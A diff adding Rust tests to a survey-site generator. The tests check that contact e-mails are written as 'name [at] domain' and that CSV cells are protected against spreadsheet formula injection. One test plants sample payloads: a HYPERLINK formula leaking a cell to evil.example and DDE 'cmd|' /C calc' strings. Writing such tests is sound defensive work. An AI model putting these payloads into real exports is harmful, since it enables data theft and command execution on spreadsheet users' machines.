@@ -473,14 +473,197 @@ fn contacts_appear_only_when_published() {
             assert_eq!(n, ed.cat.questions.len());
         }
     }
-    let csv = text(&files, data::CSV_PATH).to_lowercase();
+    // Published, but never in harvestable form: written `name [at] domain` as on the pages,
+    // in the CSV and in the country files alike.
     let found = content_emails(dir.path());
-    assert!(
-        found.iter().all(|a| csv.contains(a.as_str())),
-        "published contacts are in the CSV"
-    );
+    assert!(!found.is_empty());
+    for f in &files {
+        let text = String::from_utf8_lossy(&f.bytes).to_lowercase();
+        assert!(
+            emails(&text).is_empty(),
+            "{} holds an e-mail address: {:?}",
+            f.path,
+            emails(&text)
+        );
+    }
+    let csv = text(&files, data::CSV_PATH).to_lowercase();
+    for addr in &found {
+        let shown = addr.replace('@', " [at] ");
+        assert!(csv.contains(&shown), "published contact {shown} in the CSV");
+    }
+    let q5 = row(&rows, "cambodia", "q5");
+    assert_eq!(q5["kind"], "email");
+    assert_eq!(q5["detail"], "khemera-mok [at] mptc.gov.kh");
+    assert_eq!(q5["answered"], "true");
+    let cambodia = json(&files, "data/countries/cambodia.json");
+    let response = &cambodia["responses"][0];
+    assert_eq!(response["edition"], "msq-2021");
+    assert_eq!(response["contacts"]["q2"], "Mr. Khemera Mok");
+    assert_eq!(response["contacts"]["q5"], "khemera-mok [at] mptc.gov.kh");
+    let answer = response["answers"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|a| a["question_id"] == "q5")
+        .unwrap();
+    assert_eq!(answer["detail"], "khemera-mok [at] mptc.gov.kh");
     let lao = json(&files, "data/countries/lao-pdr.json");
     assert!(lao["responses"][0]["contacts"].is_object());
+}
+
+#[test]
+fn no_built_file_holds_a_plain_address_when_contacts_are_published() {
+    let dir = site_copy();
+    let yaml = dir.path().join("content/site.yaml");
+    let cfg = fs::read_to_string(&yaml).unwrap();
+    fs::write(
+        &yaml,
+        cfg.replace("publish_contacts: false", "publish_contacts: true"),
+    )
+    .unwrap();
+    let out = tempfile::tempdir().unwrap();
+    let target = out.path().join("site");
+    let built = egovsite(
+        &[
+            "build",
+            "--root",
+            dir.path().to_str().unwrap(),
+            "--output",
+            target.to_str().unwrap(),
+        ],
+        dir.path(),
+    );
+    assert!(
+        built.status.success(),
+        "{}",
+        String::from_utf8_lossy(&built.stderr)
+    );
+    let files = output_files(&target);
+    assert!(files.iter().any(|f| f.path == data::CSV_PATH));
+    assert!(files
+        .iter()
+        .any(|f| f.path == "data/countries/cambodia.json"));
+    for f in &files {
+        let text = String::from_utf8_lossy(&f.bytes).to_lowercase();
+        assert!(
+            emails(&text).is_empty(),
+            "{} holds {:?}",
+            f.path,
+            emails(&text)
+        );
+    }
+    let page = read(&target, "countries/cambodia.html");
+    assert!(page.contains("khemera-mok [at] mptc.gov.kh"));
+}
+
+/// Whether a spreadsheet could take a CSV cell for a formula (OWASP's first characters).
+fn formula_like(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn csv_cells_of_the_bundled_site_cannot_run_as_formulas() {
+    let d = bundled();
+    let (_, rows) = table(&d.files);
+    for r in &rows {
+        for (name, v) in r {
+            assert!(!formula_like(v), "{name} = {v:?} in {r:?}");
+        }
+    }
+    // Cambodia's list of services starts with `-www...`: shown as text, still readable.
+    let q8 = row(&rows, "cambodia", "q8");
+    assert!(
+        q8["detail"].starts_with("'-www.mpwt.gov.kh/en/home (Vehicle registration service"),
+        "{}",
+        q8["detail"]
+    );
+    // The JSON file keeps the value as written.
+    let cambodia = json(&d.files, "data/countries/cambodia.json");
+    let detail = cambodia["responses"][0]["answers"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|a| a["question_id"] == "q8")
+        .unwrap()["detail"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    assert!(detail.starts_with("-www.mpwt.gov.kh"), "{detail}");
+    assert_eq!(q8["detail"], format!("'{detail}"));
+    // The descriptor says how the cells were changed.
+    let package = json(&d.files, data::PACKAGE_PATH);
+    let description = package["resources"][0]["description"].as_str().unwrap();
+    assert!(
+        description.contains("a single quote (')") && description.contains("=, +, -, @"),
+        "{description}"
+    );
+}
+
+#[test]
+fn crafted_formulas_are_neutralised_in_the_csv() {
+    let dir = site_copy();
+    let path = dir.path().join("content/countries/cambodia/msq-2021.yaml");
+    let yaml = fs::read_to_string(&path).unwrap();
+    let payloads = [
+        (
+            "q3",
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Director\")",
+        ),
+        ("q4", "+cmd|' /C calc'!A0"),
+        ("q6", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    ];
+    let yaml = yaml
+        .replacen(
+            "  q3:\n    text: |-\n      Director\n",
+            "  q3:\n    text: '=HYPERLINK(\"http://evil.example/?\"&A1,\"Director\")'\n",
+            1,
+        )
+        .replacen(
+            "      Department of e-Government, General Department of ICT, Ministry of Posts and Telecommunications\n    reviewed: true\n  q6:",
+            "      +cmd|' /C calc'!A0\n    reviewed: true\n  q6:",
+            1,
+        )
+        .replacen(
+            "other: The answer above is by General Department of I",
+            "other: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
+            1,
+        )
+        .replacen(
+            "  document: Export of the online form's \"View results\" page",
+            "  document: \"\\t=1+1\"",
+            1,
+        )
+        .replacen(
+            "  file: cambodia-msq-export.txt",
+            "  file: \"\\r-2+3\"",
+            1,
+        );
+    fs::write(&path, &yaml).unwrap();
+    let rendered = render_at(dir.path());
+    let files = data::files(&rendered.site);
+    let (_, rows) = table(&files);
+    for r in &rows {
+        for (name, v) in r {
+            assert!(!formula_like(v), "{name} = {v:?}");
+        }
+    }
+    for (qid, payload) in payloads {
+        let r = row(&rows, "cambodia", qid);
+        let column = if qid == "q6" { "other" } else { "detail" };
+        assert_eq!(r[column], format!("'{payload}"), "{qid}");
+    }
+    let q3 = row(&rows, "cambodia", "q3");
+    assert_eq!(q3["source_document"], "'\t=1+1");
+    // A carriage return becomes a line feed like every line break in the file, and the cell
+    // still starts with the quote.
+    assert_eq!(q3["source_file"], "'\n-2+3");
+    // Cells that merely contain such characters are left alone.
+    assert_eq!(row(&rows, "cambodia", "q57")["other"], "15 Years");
+    let cambodia = json(&files, "data/countries/cambodia.json");
+    assert_eq!(
+        cambodia["responses"][0]["provenance"]["document"], "\t=1+1",
+        "the JSON files keep values as written"
+    );
 }
 
 fn check_jsonld(site: &egovsite::model::Site, text: &str, kind: &str) -> Value {
